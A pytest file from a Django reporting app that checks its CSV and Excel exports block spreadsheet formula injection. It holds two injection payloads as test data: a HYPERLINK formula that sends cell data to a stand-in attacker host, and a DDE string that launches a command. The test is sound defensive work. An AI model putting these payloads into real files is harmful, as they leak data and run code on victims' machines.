"""Issue 12, item 4: no export writes a formula. Every text that reaches a spreadsheet (the
municipality's and the offer's names) is set to `=HYPERLINK(...)`, every export is downloaded
and read back: the text is there, as text, prefixed with `'`."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from hjemvej.common.spreadsheet import safe_cell, safe_row
from hjemvej.economics.models import CostSheet
from hjemvej.reports.models import ReportJob
from hjemvej.reports.services import run_job
from tests.reports.test_national_count import week  # noqa: F401  (the count's fixture)
from tests.reports.year import YEAR, build_year

pytestmark = pytest.mark.django_db

EVIL_OFFER = '=HYPERLINK("http://angriber.example/?d="&A2,"Herberg")'
EVIL_MUNICIPALITY = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def evil_names(ishoj, ishoj_shelter_unit):
    ishoj.name = EVIL_MUNICIPALITY
    ishoj.save(update_fields=["name"])
    ishoj_shelter_unit.name = EVIL_OFFER
    ishoj_shelter_unit.save(update_fields=["name"])


def _xlsx_texts(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _assert_neutralised(texts: list[str], *evil: str) -> None:
    for text in texts:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
    joined = "\n".join(texts)
    for e in evil:
        assert e in joined  # the text itself is kept, only made harmless


def _order(client, kind: str, **params) -> bytes:
    response = client.post("/rapporter/bestil/", {"kind": kind, **params})
    assert response.status_code == 302
    job = ReportJob.objects.filter(kind=kind).latest("created_at")
    job = run_job(str(job.uuid))
    assert job.status == ReportJob.Status.DONE, job.error
    download = client.get(f"/rapporter/koersel/{job.uuid}/hent/")
    assert download.status_code == 200
    return download.content


def test_safe_cell_prefixes_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_row(["Ishøj", 5, None, -3, "", "a=b"]) == ["Ishøj", 5, None, -3, "", "a=b"]


def test_outcome_report_in_excel_writes_no_formula(
    ishoj, ishoj_shelter_unit, manager_ishoj, as_user
):
    build_year(ishoj, ishoj_shelter_unit)
    ishoj.name = EVIL_MUNICIPALITY
    ishoj.save(update_fields=["name"])
    ishoj_shelter_unit.name = EVIL_OFFER
    ishoj_shelter_unit.save(update_fields=["name"])
    client = as_user(manager_ishoj)
    by_offer = _order(client, "outcome-xlsx", tilbud=str(ishoj_shelter_unit.uuid), aar=str(YEAR))
    _assert_neutralised(_xlsx_texts(by_offer), EVIL_OFFER)
    by_municipality = _order(client, "outcome-xlsx", kommune=str(ishoj.code), aar=str(YEAR))
    _assert_neutralised(_xlsx_texts(by_municipality))


def test_national_count_in_csv_and_excel_writes_no_formula(
    week,  # noqa: F811
    evil_names,
    manager_ishoj,
    as_user,
):
    client = as_user(manager_ishoj)
    text = _order(client, "count-csv", uge="2026-W06").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    _assert_neutralised(cells, EVIL_MUNICIPALITY)
    assert "'" + EVIL_MUNICIPALITY in cells
    texts = _xlsx_texts(_order(client, "count-xlsx", uge="2026-W06"))
    _assert_neutralised(texts, EVIL_MUNICIPALITY)
    assert "'" + EVIL_MUNICIPALITY in texts


def test_cost_sheet_in_excel_writes_no_formula(ishoj_shelter_unit, manager_ishoj, as_user):
    ishoj_shelter_unit.name = EVIL_OFFER
    ishoj_shelter_unit.save(update_fields=["name"])
    ishoj = ishoj_shelter_unit.municipality
    ishoj.name = EVIL_MUNICIPALITY
    ishoj.save(update_fields=["name"])
    sheet = CostSheet.objects.create(
        unit=ishoj_shelter_unit,
        budget_year=2026,
        salaries=Decimal("365000"),
        other=Decimal("0"),
        salary_pools_pct=Decimal("0"),
        maintenance_pct=Decimal("0"),
        indirect_pct=Decimal("0"),
        places=1,
        occupancy_pct=Decimal("100"),
        note=EVIL_OFFER,
    )
    response = as_user(manager_ishoj).get(f"/okonomi/takstblade/{sheet.uuid}/excel/")
    assert response.status_code == 200
    texts = _xlsx_texts(response.content)
    _assert_neutralised(texts, EVIL_OFFER)
    assert "'" + EVIL_MUNICIPALITY + " Kommune" in texts
